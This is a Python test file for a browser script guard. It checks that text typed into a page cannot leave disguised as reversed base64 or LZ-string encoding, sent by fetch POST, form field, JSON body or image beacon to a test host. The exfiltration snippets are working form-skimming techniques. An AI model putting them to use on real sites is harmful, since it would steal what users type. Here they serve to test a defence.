"""What real SDKs hide what they send in, to somebody who may have anything but what was typed.

Statsig turns the base64 of its first question round; CleverTap packs its events with LZ-string.
"""

import base64
import json

import pytest

from scriptward.app.guard import guard_script
from scriptward.policy.language.reader import parsed
from tests.analysis.leaks.packers import lz_address, lz_base64
from tests.guard.test_unread import HOST, OTHER, PAGE, POLICY, TYPED

SAID = '{{"user": {{"userID": "u-7", "email": "{}", "note": "{}"}}, "at": 1796098390857}}'
LONG = "a word of the page, and one more; " * 40
HIDDEN = {
    "turned": lambda text: base64.b64encode(text.encode())[::-1].decode(),
    "turned-bare": lambda text: base64.b64encode(text.encode()).rstrip(b"=")[::-1].decode(),
    "turned-for-addresses": lambda text: base64.urlsafe_b64encode(text.encode())[::-1].decode(),
    "words": lambda text: lz_base64(text).decode(),
    "words-for-addresses": lambda text: lz_address(text).decode(),
}
WAYS = {
    "body": "post('{name}', token)",
    "field": "post('{name}', 'v=1&data=' + encodeURIComponent(token))",
    "json": "post('{name}', JSON.stringify({{v: 1, data: token}}))",
    "address": "new Image().src = AT + '{name}&d=' + encodeURIComponent(token)",
}
CODE = f"""
const AT = "http://{HOST}/";
const post = (name, body) => fetch(AT + name, {{ method: "POST", mode: "no-cors", body }});
"""
NAMES = [(form, way, size) for form in HIDDEN for way in WAYS for size in ("short", "long")]


@pytest.fixture(scope="module")
def reached(chromium, site):
    """Paths asked for: each way with another text, and with what was typed."""
    site.files["/unread-guard.js"] = guard_script(parsed(POLICY), headers=True)
    site.files["/unread.js"] = CODE.encode()
    site.files["/disguised"] = PAGE.encode()
    site.reached.clear()
    context = chromium.new_context()
    page = context.new_page()
    page.goto("http://www.clinic.test/disguised")
    page.fill("input", TYPED)
    for form, way, size in NAMES:
        for text, about in ((OTHER, "other"), (TYPED, "typed")):
            said = SAID.format(text, LONG if size == "long" else "")
            name = f"{form}-{way}-{size}?{about}"
            done = f"const token = {json.dumps(HIDDEN[form](said))}; {WAYS[way].format(name=name)}"
            page.evaluate(f"() => {{ {done} }}")
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(500)
    context.close()
    return {path.strip("/").partition("&")[0] for path in site.reached}


@pytest.mark.parametrize("form, way, size", NAMES)
def test_what_was_typed_does_not_leave_in_disguise(reached, form, way, size):
    assert f"{form}-{way}-{size}?other" in reached
    assert f"{form}-{way}-{size}?typed" not in reached
